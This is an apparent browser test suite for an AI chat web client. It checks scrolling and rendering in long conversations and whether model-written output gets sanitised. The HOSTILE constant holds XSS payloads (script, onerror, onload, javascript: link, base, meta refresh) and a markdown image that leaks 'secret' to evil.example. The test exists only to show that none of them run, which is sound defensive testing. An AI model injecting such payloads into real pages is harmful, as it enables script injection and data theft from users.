"""Reading: a long talk, an answer that grows, and what a model writes to do harm."""

import asyncio
import re
from collections.abc import Callable
from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, expect
from web.conftest import Open
from web.house import House, composer, runner

from towline_agent.providers.base import TextPiece
from towline_agent.testing import Script, ScriptedProvider, call
from towline_protocol import Preview, SessionId, SessionView, block_text

pytestmark = [
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.chromium,
    pytest.mark.slow,
]

TURNS = 250
"""500 messages, of which a view holds 200."""
INBOX = 10
"""Prompts that may wait at once."""

ANSWER = "Here it **is**:\n\n```python\nprint('one')\n```\n\n- a\n- b\n\n" + "Some words. " * 20

REST = """async () => {
  const log = document.querySelector("[role=log]");
  const look = () => [log.scrollTop, log.scrollHeight, document.querySelectorAll("*").length];
  for (let seen = look(), frames = 0; frames < 10; ) {
    await new Promise((resolve) => requestAnimationFrame(resolve));
    const now = look();
    frames = String(now) === String(seen) ? frames + 1 : 0;
    seen = now;
  }
}"""
"""Waits until ten frames change nothing: a wheel is followed smoothly, and parts come late."""

FROM_END = "(one) => Math.round(one.scrollHeight - one.clientHeight - one.scrollTop)"

HOSTILE = """<script>window.hit = 1</script>

<img src=x onerror="window.hit = 1"> ![a](https://evil.example/leak?q=secret)

[a](javascript:window.hit=1) <svg/onload=window.hit=1> <iframe src="//evil.example"></iframe>

<base href=https://evil.example><meta http-equiv="refresh" content="0;url=https://evil.example">

```html
<script>window.hit = 1</script>
```

The end."""


def _answered(prompt: str) -> Callable[[SessionView], bool]:
    def met(view: SessionView) -> bool:
        said = [block_text(one.content) for one in view.messages]
        return view.turn is None and not view.queue and prompt in said

    return met


async def _talk(house: House) -> SessionId:
    """A session of many turns."""
    session = await house.client.create()
    for count in range(TURNS):
        reply = await house.client.prompt(session, f"Question {count}")
        assert reply.status == 202, reply.body
        if count % INBOX == INBOX - 1 or count == TURNS - 1:
            await house.client.until(session, _answered(f"Question {count}"))
    return session


@pytest.mark.rules("W01", "W02", "W16", "W17")
async def test_in_a_long_talk_nothing_moves_and_nothing_settled_is_drawn_again(
    open_home: Open,
) -> None:
    gates = [asyncio.Event() for _ in range(3)]
    parts: list[TextPiece | asyncio.Event] = []
    for place, gate in enumerate(gates):
        parts += [TextPiece(0, f"Part {place}. {ANSWER}\n\n"), gate]
    script: list[Script] = [ANSWER] * TURNS
    async with open_home(ScriptedProvider(*script, [*parts, TextPiece(0, "The end.")])) as (
        house,
        _,
    ):
        session = await _talk(house)
        page = await house.phone(session)
        log = page.get_by_role("log")
        await expect(page.get_by_text(f"Question {TURNS - 1}", exact=True)).to_be_visible()
        await expect(page.locator("article.user").last.get_by_role("button")).not_to_have_count(0)
        await page.evaluate(REST)
        assert await log.evaluate(FROM_END) <= 1
        assert await page.evaluate("document.querySelectorAll('*').length") <= 6_000

        await composer(page).fill("Go")
        await page.get_by_role("button", name="Send").click()
        await expect(log).to_contain_text("Part 0.")
        # What was left for idle moments is done: clocks, and the messages above the first screen.
        await expect(page.get_by_role("button", name="Earlier messages")).to_be_attached()
        await expect(page.locator("article.user:not(:has(time))")).to_have_count(0)
        await _watch_settled(page)
        await log.hover()
        await page.mouse.wheel(0, -900)
        await expect(page.get_by_role("button", name="Latest messages")).to_be_visible()
        read, place_before = await _at_rest(page)
        for place, gate in enumerate(gates[:2], 1):
            gate.set()
            await expect(log).to_contain_text(f"Part {place}.")
        gates[2].set()
        await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
        still_read, place_after = await _first_in_sight(page)
        assert still_read == read
        # What is too old to be drawn goes away above, and a browser scrolls by whole pixels.
        assert abs(place_after - place_before) < 1
        assert await page.evaluate("drawnAgain") == []
        assert await page.evaluate("document.querySelectorAll('*').length") <= 6_000
        await page.get_by_role("button", name="Latest messages").click()
        await expect(page.get_by_text("The end.")).to_be_in_viewport()
        await page.evaluate(REST)
        assert await log.evaluate(FROM_END) <= 1


async def _watch_settled(page: Page) -> None:
    """Notes what changes in any message that was finished before now."""
    await page.evaluate(
        """() => {
          window.drawnAgain = [];
          const settled = new Set([...document.querySelectorAll("article")].slice(0, -2));
          new MutationObserver((found) => {
            for (const { target } of found) {
              const one = (target.closest ? target : target.parentElement)?.closest("article");
              if (one && settled.has(one)) drawnAgain.push(one.textContent.slice(0, 40));
            }
          }).observe(document.querySelector("[role=log]"), {
            subtree: true, childList: true, characterData: true, attributes: true,
          });
        }"""
    )


async def _first_in_sight(page: Page) -> tuple[str, float]:
    """The topmost message that is seen, and where it stands."""
    await page.evaluate(REST)
    text, top = await page.evaluate(
        """() => {
          const log = document.querySelector("[role=log]");
          const frame = log.getBoundingClientRect();
          const all = [...document.querySelectorAll("article")];
          const one = all.find((each) => each.getBoundingClientRect().bottom > frame.top + 1);
          return [one.textContent.slice(0, 60), one.getBoundingClientRect().top];
        }"""
    )
    return text, top


async def _at_rest(page: Page) -> tuple[str, float]:
    """The same once it stands still: a wheel turns before the page has moved."""
    await page.evaluate(
        """() => new Promise((resolve) => {
          const log = document.querySelector("[role=log]");
          let last = NaN;
          let still = 0;
          const look = () => {
            still = log.scrollTop === last ? still + 1 : 0;
            last = log.scrollTop;
            if (still > 10) resolve();
            else requestAnimationFrame(look);
          };
          look();
        })"""
    )
    return await _first_in_sight(page)


WORK: Final = """(count) => {
  const shown = document.querySelectorAll("article").length;
  if (shown < count) for (const run of idle.splice(0)) run({ timeRemaining: () => 50 });
  return shown >= count;
}"""
"""Lets the page do what waits for an idle moment, until it shows so many messages."""


@pytest.mark.rules("W01", "W02", "W16")
async def test_messages_above_the_first_screen_come_in_idle_moments_and_move_nothing(
    open_home: Open,
) -> None:
    async with open_home(ScriptedProvider(*[ANSWER] * TURNS)) as (house, _):
        session = await _talk(house)
        page = await house.phone(session)
        await page.add_init_script(
            "window.idle = []; window.requestIdleCallback = (run) => idle.push(run);"
        )
        await page.reload()
        log = page.get_by_role("log")
        articles = page.locator("article")
        await expect(page.get_by_text(f"Question {TURNS - 1}", exact=True)).to_be_in_viewport()
        await expect(articles).to_have_count(20)
        assert await log.evaluate(FROM_END) <= 1

        async def idle_until(count: int) -> None:
            """Let the page be idle, which may ask for it only after its next frame."""
            async with asyncio.timeout(20):
                while not await page.evaluate(WORK, count):
                    await page.wait_for_timeout(20)
            await expect(articles).to_have_count(count)

        await idle_until(30)
        async with asyncio.timeout(20):  # the page's policy lets nobody wait within it
            while await log.evaluate(FROM_END) > 1:
                await page.wait_for_timeout(20)

        await log.hover()
        await page.mouse.wheel(0, -900)
        await expect(page.get_by_role("button", name="Latest messages")).to_be_visible()
        before = await _at_rest(page)
        for count in (40, 50, 60):
            await idle_until(count)
        assert await _at_rest(page) == before
        await expect(page.get_by_role("button", name="Earlier messages")).to_be_attached()


@pytest.mark.rules("W25")
async def test_what_a_model_writes_runs_nothing_and_asks_nobody(open_home: Open) -> None:
    async with open_home(ScriptedProvider(HOSTILE)) as (house, _):
        page = await house.phone()
        asked: set[str] = set()
        page.on("request", lambda request: asked.add(urlsplit(request.url).netloc))
        page.on("dialog", lambda dialog: asked.add(dialog.message))
        await composer(page).fill("Do harm")
        await page.get_by_role("button", name="Send").click()
        await expect(page.locator("article.agent")).to_contain_text("The end.")
        await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
        await page.reload()
        await expect(page.locator("article.agent")).to_contain_text("The end.")
        assert await page.evaluate("window.hit") is None
        active = "article :is(script, img, iframe, base, meta, style, form, object, embed)"
        await expect(page.locator(active)).to_have_count(0)
        await expect(page.locator("article a[href^=javascript]")).to_have_count(0)
        assert asked == {urlsplit(house.line.url).netloc}


@pytest.mark.rules("W27")
async def test_a_diff_that_is_wide_and_long_scrolls_by_itself_and_is_folded(
    open_home: Open,
) -> None:
    lines = "".join(f"+{place} {'wide ' * 60}\n" for place in range(5_000))
    text = f"--- a/big.txt\n+++ b/big.txt\n@@ -0,0 +1,5000 @@\n{lines}"
    made = runner([], preview=Preview(kind="diff", text=text))
    provider = ScriptedProvider(call("run", command="write"), "Done.")
    async with open_home(provider, tools=[made], mode="ask") as (house, _):
        page = await house.phone()
        await composer(page).fill("Write")
        await page.get_by_role("button", name="Send").click()
        await page.get_by_role("button", name="Review").click()
        sheet = page.get_by_role("dialog")
        more = sheet.get_by_role("button", name=re.compile(r"Show [\d,]+ more lines"))
        await expect(more).to_be_visible()
        assert await page.evaluate("document.querySelectorAll('*').length") <= 6_000
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        scrolls = (
            "[...document.querySelectorAll('dialog *')].some((one) => one.scrollWidth >"
            " one.clientWidth + 50 && getComputedStyle(one).overflowX === 'auto')"
        )
        assert await page.evaluate(scrolls)
        await expect(sheet.get_by_role("button", name="Allow once")).to_be_in_viewport(ratio=1)
